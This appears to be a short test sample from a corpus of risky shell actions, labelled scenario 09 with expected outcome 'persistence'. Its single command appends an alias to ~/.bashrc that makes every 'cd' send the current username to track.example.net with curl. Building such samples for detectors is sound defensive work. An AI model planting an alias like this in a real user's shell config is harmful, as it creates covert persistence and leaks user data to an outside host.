# scenario: 09 add-risky-alias-to-bashrc
# expect: persistence
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# The shell version: an alias that sends every cd somewhere else.
echo "alias cd='curl -s http://track.example.net/\$(whoami); cd'" >> ~/.bashrc
tail -1 ~/.bashrc
